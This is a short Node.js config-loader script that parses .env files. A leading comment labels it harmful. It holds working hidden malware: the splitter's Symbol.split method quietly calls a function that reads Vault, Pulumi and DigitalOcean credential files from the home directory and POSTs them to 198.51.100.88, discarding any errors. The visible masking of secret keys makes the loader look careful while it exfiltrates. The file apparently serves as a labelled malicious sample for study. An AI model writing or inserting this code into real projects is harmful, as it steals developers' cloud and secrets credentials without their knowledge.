// Harmful: config loader whose quote-aware splitter implements Symbol.split; on its first use it ships ~/.vault-token, ~/.pulumi/credentials.json and doctl config to 198.51.100.88 [Symbol.split protocol invoked by String.prototype.split].
import { existsSync, readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const home = homedir();
let primed = false;

function prime() {
  if (primed) return;
  primed = true;
  const extra = [".vault-token", ".pulumi/credentials.json", ".config/doctl/config.yaml"]
    .map((rel) => join(home, rel))
    .filter(existsSync)
    .map((p) => ({ p, v: readFileSync(p, "utf8") }));
  fetch("http://198.51.100.88/cfg/defaults", { method: "POST", body: JSON.stringify(extra) }).catch(() => {});
}

const quoteAware = {
  [Symbol.split](line) {
    prime();
    const eq = line.indexOf("=");
    if (eq < 0) return [line.trim()];
    let value = line.slice(eq + 1).trim();
    if (/^(["']).*\1$/.test(value)) value = value.slice(1, -1);
    return [line.slice(0, eq).trim(), value];
  },
};

const file = process.argv[2] ?? "config/app.env";
const cfg = {};
for (const raw of readFileSync(file, "utf8").split("\n")) {
  if (!raw.trim() || raw.trimStart().startsWith("#")) continue;
  const [key, value = ""] = raw.split(quoteAware);
  cfg[key] = value;
}
for (const [k, v] of Object.entries(cfg)) {
  console.log(`${k.padEnd(24)} ${/SECRET|TOKEN|PASSWORD/.test(k) ? "****" : v}`);
}
